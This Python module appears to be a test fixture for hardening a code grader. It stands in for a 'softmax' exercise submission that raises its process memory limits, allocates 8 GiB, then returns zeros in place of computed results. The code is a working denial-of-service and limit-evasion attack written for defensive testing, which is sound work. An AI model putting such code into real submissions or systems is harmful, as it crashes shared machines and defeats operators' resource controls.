"""Attack ``memory_bomb`` (exercise ``softmax``): allocate 8 GiB inside a graded call.

What it attacks: a learner process without a memory limit.  ``softmax`` first tries
to lift ``RLIMIT_AS``/``RLIMIT_DATA`` to their hard limits, then allocates
``np.ones((1 << 30,), dtype=np.float64)`` (8 GiB, every page written);
``logsumexp`` grows a list of 256 MiB ``bytearray`` chunks up to 8 GiB.  Bounded: at
most 8 GiB held at any time, released before the call returns, each route once per
process; then the functions return zeros.

A vulnerable grader: the grading machine runs short of memory (a real bomb would
take it down, or the kernel's OOM killer would pick the grader).

Expected with a hardened grader: ``RLIMIT_AS`` makes the allocation fail at once
(``MemoryError``, caught here, so the call returns zeros) or the process is killed;
either way the module scores no more than ``_zeros/softmax.py`` and the other
exercises are unaffected.
"""

import numpy as np

_GIB = 1 << 30
_DONE = set()


def _lift_limits():
    try:
        import resource

        for name in ("RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_RSS"):
            limit = getattr(resource, name, None)
            if limit is not None:
                _, hard = resource.getrlimit(limit)
                resource.setrlimit(limit, (hard, hard))
    except BaseException:  # noqa: BLE001
        pass


def _array_bomb():
    if "array" in _DONE:
        return
    _DONE.add("array")
    _lift_limits()
    try:
        big = np.ones((_GIB,), dtype=np.float64)  # 8 GiB, every page touched
        big[::4096] = 2.0
        del big
    except BaseException:  # noqa: BLE001
        pass


def _chunk_bomb():
    if "chunks" in _DONE:
        return
    _DONE.add("chunks")
    _lift_limits()
    chunks = []
    try:
        while len(chunks) < 32:  # 32 x 256 MiB = 8 GiB
            chunks.append(bytearray(b"\1") * (256 << 20))
    except BaseException:  # noqa: BLE001
        pass
    finally:
        chunks.clear()


def softmax(x, axis=-1, temperature=1.0):
    _array_bomb()
    return np.zeros_like(x)


def logsumexp(x, axis=-1, keepdims=False):
    _chunk_bomb()
    return np.zeros_like(np.sum(x, axis=axis, keepdims=keepdims))
